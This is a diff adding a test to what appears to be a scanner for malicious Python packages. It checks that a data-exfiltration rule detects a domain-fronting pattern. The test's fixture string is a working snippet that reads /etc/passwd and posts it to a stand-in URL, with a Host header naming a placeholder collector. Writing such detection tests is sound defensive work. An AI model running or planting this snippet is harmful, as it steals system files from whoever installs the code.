@@ -252,3 +252,16 @@ def test_paste_site_stage_that_the_same_file_runs_weighs_more(engine: Engine) ->
         assert found is not None
         points.append(rule_points(found))
     assert points[0] > points[1]
+
+
+def test_harvest_sent_through_a_fronted_host(engine: Engine) -> None:
+    """``/etc/passwd`` posted to a trusted URL whose Host header names the real collector."""
+    code = (
+        "from urllib import request\npwd = open('/etc/passwd').read()\n"
+        "r = request.Request('https://pypi.example.org', data=pwd.encode(),\n"
+        "    headers={'Host': 'collector.example.net'})\nrequest.urlopen(r)\n"
+    )
+    evidence = run_rule(engine, data_exfiltration_rule, sdist({"t/i.py": code}))
+    assert {"exfil", "harvest"} <= set(evidence[0]["capabilities"])
+    plain = code.replace("'Host': 'collector.example.net'", "'Accept': 'text/plain'")
+    assert run_rule(engine, data_exfiltration_rule, sdist({"t/i.py": plain})) is None
